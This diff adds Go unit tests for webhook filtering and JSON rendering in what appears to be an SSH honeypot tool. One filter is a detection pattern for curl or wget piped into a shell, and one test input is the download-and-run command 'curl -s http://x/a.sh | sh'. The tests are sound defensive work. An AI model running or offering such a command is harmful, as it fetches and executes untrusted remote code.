@@ -0,0 +1,57 @@
+package webhook
+
+import (
+	"testing"
+
+	"github.com/archimoebius/fishler/util/event"
+)
+
+func TestTargetMatches(t *testing.T) {
+	target, err := newTarget(Target{
+		URL: "http://127.0.0.1/hook",
+		Filters: []Filter{
+			{Kind: "auth", Fields: map[string]string{"success": "^true$"}},
+			{Kind: "exec", Fields: map[string]string{"command": `(wget|curl).*\|\s*(ba)?sh`}},
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, test := range []struct {
+		payload  Payload
+		expected bool
+	}{
+		{Payload{Kind: event.KindAuth, Fields: map[string]string{"success": "true"}}, true},
+		{Payload{Kind: event.KindAuth, Fields: map[string]string{"success": "false"}}, false},
+		{Payload{Kind: event.KindExec, Fields: map[string]string{"command": "curl -s http://x/a.sh | sh"}}, true},
+		{Payload{Kind: event.KindExec, Fields: map[string]string{"command": "uname -a"}}, false},
+		{Payload{Kind: event.KindUpload, Fields: map[string]string{"path": "/tmp/x"}}, false},
+	} {
+		if target.matches(test.payload) != test.expected {
+			t.Fatalf("expected match %t for %v", test.expected, test.payload)
+		}
+	}
+}
+
+func TestTargetRender(t *testing.T) {
+	target, err := newTarget(Target{
+		URL:      "http://127.0.0.1/hook",
+		Template: `{"text": {{json .Fields.command}}}`,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	body, err := target.render(Payload{
+		Kind:   event.KindExec,
+		Fields: map[string]string{"command": `echo "hi"`},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if string(body) != `{"text": "echo \"hi\""}` {
+		t.Fatalf("unexpected body %s", body)
+	}
+}